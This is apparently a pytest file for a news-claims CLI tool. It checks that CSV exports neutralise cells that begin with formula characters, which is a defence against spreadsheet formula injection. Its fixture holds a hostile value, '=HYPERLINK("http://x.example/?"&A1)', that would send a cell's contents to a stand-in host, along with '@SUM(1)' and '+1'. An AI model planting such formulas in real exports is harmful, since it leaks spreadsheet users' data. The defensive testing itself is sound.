"""Tables printed for a spreadsheet: what a stranger wrote is never a formula in them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from whosays.casebook import Casebook
from whosays.cli import app
from whosays.record import Claim, Record, Report, Source, span_of

EVIL = '=HYPERLINK("http://x.example/?"&A1)'
TEXT = f"{EVIL} said 12 people were killed in Sumy."


@pytest.fixture
def casebook(tmp_path: Path) -> Path:
    path = tmp_path / "a.casebook"
    start = TEXT.index("killed")
    claim = Claim(
        id="r#1", type="LOSSES", evidence=span_of(TEXT, 0, len(TEXT) - 1), trigger=span_of(TEXT, start, start + 6),
        sources=(Source(text=EVIL, start=0, end=len(EVIL), name=EVIL, kind="named"),),
    )  # fmt: skip
    with Casebook(path, by=EVIL) as case:
        case.add(Record(report=Report(id="r", text=TEXT, title=EVIL, publisher="@SUM(1)"), claims=(claim,)))
        case.rate(EVIL, "E", why="+1")
    return path


@pytest.mark.parametrize(
    "command", [("claims",), ("history",), ("events",), ("rate",), ("find", "who was killed in Sumy")]
)
def test_no_cell_begins_a_formula(casebook: Path, command: tuple[str, ...]) -> None:
    done = CliRunner().invoke(app, ["--casebook", str(casebook), *command, "--format", "csv"])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(done.stdout)))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > 1
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "-")]
